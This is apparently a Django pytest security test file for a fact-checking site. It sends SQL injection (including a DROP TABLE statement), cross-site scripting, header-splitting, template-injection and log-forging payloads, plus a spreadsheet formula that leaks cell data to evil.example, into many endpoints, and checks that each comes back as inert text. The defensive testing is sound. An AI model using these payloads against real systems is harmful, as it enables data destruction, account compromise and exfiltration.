"""Whatever is typed is text: to the database, to a page, a header, a table, a template and a log.

Each door that takes input gets each poison; what programs send at random is in test_api_fuzz.py,
and what is fetched from other sites in test_fetching.py.
"""

import csv
import io
import json
import logging
import re
from urllib.parse import urljoin

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils.http import urlencode

from claims.models import Claim, Revision, Submission
from factcheck import logs

from . import desk
from .programs import CLAIM, DESK, JSON, Program
from .test_headers import Page

pytestmark = pytest.mark.django_db

WORD = "zqxj"  # in each poison, and nowhere in our own SQL
POISONS = {
    "SQL": f"{WORD}' OR '1'='1' --",
    "SQL, a second statement": f'{WORD}"; DROP TABLE claims_revision; --\\',
    "HTML": f'{WORD}"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "HTML, of an attribute": f"{WORD}' onmouseover='alert(1)' javascript:alert(1)",
    "a header": f"{WORD}\r\nSet-Cookie: poisoned=1\r\n\r\n<b>",
    "a table": f'=HYPERLINK("https://evil.example/?"&A1;"{WORD}")',
    "a template": WORD + "{{ 7|add:35 }}{% debug %}{% load i18n %}${7*6}{7*6}%(name)s{0}",
    "a log": f"{WORD}\n2026-01-01 00:00:00 ERROR django: poisoned",
}
ASKED = [
    "/claims/?q=", "/claims/?rating=", "/claims/?topic=", "/claims/?year=", "/claims/?ordering=",
    "/claims/?cursor=", "/claims/?published_after=", "/claims/?language=", "/claims/claims.csv?q=",
    "/claims/feed.atom?q=", "/claims/feed.json?subject=", "/subjects/?q=", "/sources/?q=",
    "/check/?text=", "/corrections/?cursor=", "/oembed/?url=", "/nowhere/", "/submit/",
    "/api/v1/claims/?q=", "/api/v1/claims/?fields=", "/api/v1/claims/?ordering=",
    "/api/v1/claims/?cursor=", "/api/v1/claims/?claimed_after=", "/api/v1/claims/?claimant=",
    "/api/v1/claims/?format=csv&q=", "/api/v1/claims/?format=", "/api/v1/lookup/?url=",
    "/api/v1/changes/?after=", "/api/v1/claims/bridge-cost/claimreview/?language=", "/api/v1/",
    "/v1alpha1/claims:search?query=", "/v1alpha1/claims:search?reviewPublisherSiteFilter=",
    "/v1alpha1/claims:search?languageCode=", "/v1alpha1/claims:search?pageToken=",
]  # fmt: skip
OF_THE_DESK = [
    "/admin/claims/claim/?q=", "/admin/claims/claim/?kind__exact=", "/admin/claims/claim/?o=",
    "/admin/claims/verdict/?status=", "/admin/sources/source/?q=", "/admin/auth/user/?q=",
    "/admin/claims/submission/?q=", "/admin/claims/claim/?e=", "/admin/claims/claim/?_to_field=",
    "/admin/autocomplete/?app_label=claims&model_name=evidence&field_name=source&term=",
    "/admin/account/sign-in/?next=",
]  # fmt: skip
HEADERS = ["Accept", "Accept-Language", "Accept-Datetime", "If-None-Match", "If-Modified-Since"]
HEADERS += ["Origin", "Referer", "User-Agent", "Last-Event-ID", "Authorization", "Cookie", "Range"]
HEADERS += ["X-Forwarded-For", "X-Forwarded-Proto", "X-Request-ID", "X-HTTP-Method-Override"]


@pytest.fixture(scope="module")
def record(published_once):
    published_once()


@pytest.fixture
def watched(record):
    """Calls are made under it; then nothing of the poison is where it would do harm."""
    statements, stream = [], io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logs.Plain())
    logging.getLogger().addHandler(handler)
    before = Revision.objects.count(), Claim.objects.count()

    def watch(execute, sql, params, many, context):
        statements.append(str(sql))
        return execute(sql, params, many, context)

    with connection.execute_wrapper(watch):
        yield
    logging.getLogger().removeHandler(handler)
    assert not [sql for sql in statements if WORD in sql]
    assert statements
    begun = [line for line in stream.getvalue().splitlines() if not line.startswith("    ")]
    assert not [line for line in begun if "poisoned" in line[:60]]
    assert (Revision.objects.count(), Claim.objects.count()) == before


def harmless(answer, where=""):
    """The answer carries the poison nowhere but as text."""
    assert answer.status_code < 500, where
    assert "poisoned" not in answer.cookies, where
    for name, value in answer.items():
        assert "\n" not in f"{name}{value}", where
        assert "Set-Cookie" not in name, where
    if answer.streaming or answer.get("Content-Encoding"):
        return
    body = answer.content.decode()
    assert "42" not in re.findall(rf"{WORD}(\d+)", body), where
    if answer.get("Content-Type", "").startswith("text/html"):
        assert not Page(body).found, where
        assert not re.search(r"(?:href|src|action)=[\"']?\s*javascript:", body), where
    elif "json" in answer.get("Content-Type", ""):
        json.loads(body)
    elif "csv" in answer.get("Content-Type", ""):
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in {"=", "@", "\t"}], where


@pytest.mark.parametrize("kind", POISONS)
def test_what_readers_and_programs_ask(client, watched, kind):
    for door in ASKED:
        name = door.rpartition("?")[2]
        where = door + urlencode({"x": POISONS[kind]})[2:]
        if not name.endswith("="):  # a place in the path
            where = where.replace("+", "%20")
        harmless(client.get(where), where)


@pytest.mark.parametrize("kind", POISONS)
def test_what_is_asked_of_the_desk(admin_client, watched, kind):
    for door in OF_THE_DESK:
        where = door + urlencode({"x": POISONS[kind]})[2:]
        answer = admin_client.get(where)
        harmless(answer, where)
        leads_to = urljoin("https://facts.example/", answer.get("Location", ""))
        assert leads_to.startswith("https://facts.example/"), where


@pytest.mark.parametrize("kind", ["SQL", "HTML", "a header", "a log"])
def test_what_headers_say(client, watched, kind):
    for place in ("/claims/bridge-cost/", "/api/v1/claims/"):
        for name in HEADERS:
            harmless(client.get(place, headers={name: POISONS[kind]}), f"{place} {name}")


@pytest.mark.parametrize("kind", POISONS)
def test_what_is_sent(client, watched, kind):
    poison = POISONS[kind]
    for place, sent in [
        ("/check/", {"text": poison}),
        ("/tools/claimreview/", {"text": poison}),
        ("/claims/bridge-cost/report/", {"text": poison, "email": poison, "kind": "error"}),
        ("/admin/account/sign-in/", {"login": poison, "password": poison, "next": poison}),
        ("/api/v1/match/", json.dumps({"text": poison, poison: poison})),
        ("/api/v1/validate/", json.dumps({"@type": "ClaimReview", "claimReviewed": poison})),
        ("/v1alpha1/claims:search", f"query={poison}"),
    ]:
        kinds = {} if isinstance(sent, dict) else {"content_type": "application/json"}
        harmless(client.post(place, sent, **kinds), place)


# --- What is kept and shown again ---------------------------------------------------------


@pytest.mark.parametrize("kind", POISONS)
def test_what_a_reader_sends_in_is_text_on_the_desk(client, admin_client, record, kind):
    poison = POISONS[kind]
    Submission.objects.create(token_hash="1" * 64, kind="claim", text=poison, url=poison)
    row = Submission.objects.get()
    harmless(admin_client.get(reverse("admin:claims_submission_changelist")))
    shown = admin_client.get(reverse("admin:claims_submission_change", args=[row.pk]))
    harmless(shown)
    assert WORD in shown.content.decode()


PUBLIC = ["/", "/claims/", "/claims/{}/", "/claims/{}/history/", "/embed/{}/", "/claims/feed.atom"]
PUBLIC += ["/claims/feed.json", "/claims/claims.csv", "/api/v1/claims/", "/api/v1/claims/{}/"]
PUBLIC += ["/api/v1/claims/{}/claimreview/", "/api/v1/claims/?format=csv", "/zh-hans/claims/{}/"]
PUBLIC += ["/claims/{}/v/1/cite.bib", "/sitemaps/news.xml", "/v1alpha1/claims:search?query=" + WORD]


@pytest.mark.parametrize("kind", POISONS)
def test_what_editors_publish_is_text_everywhere(client, published, kind):
    poison = " ".join(POISONS[kind].split())  # a statement is one line, by constraint
    published("poisoned", statement=poison, summary=POISONS[kind])
    for place in PUBLIC:
        answer = client.get(place.format("poisoned"))
        harmless(answer, place)
        assert answer.status_code == 200, place
    editor = desk.make_user("eve", role="editor")
    own = Client()
    own.force_login(editor)
    row = Claim.objects.get(slug="poisoned")
    harmless(own.get(reverse("admin:claims_claim_change", args=[row.pk])))
    harmless(own.get(reverse("admin:claims_claim_history", args=[row.pk])))


@pytest.mark.parametrize("kind", POISONS)
def test_what_a_program_writes_is_text_on_the_desk(kind):
    poison = " ".join(POISONS[kind].split())
    editor = desk.make_user("eve", role="editor")
    program = Program(editor)
    sent = CLAIM | {"statement": {"en": poison}}
    answer = program.client.post(f"{DESK}claims/", sent, content_type=JSON)
    harmless(answer)
    assert answer.status_code == 201
    root = Client()
    root.force_login(get_user_model().objects.create_superuser("root"))
    harmless(root.get(reverse("admin:claims_claim_changelist")))
    row = Claim.objects.get(slug="tower-height")
    shown = root.get(reverse("admin:claims_claim_change", args=[row.pk]))
    harmless(shown)
    assert WORD in shown.content.decode()
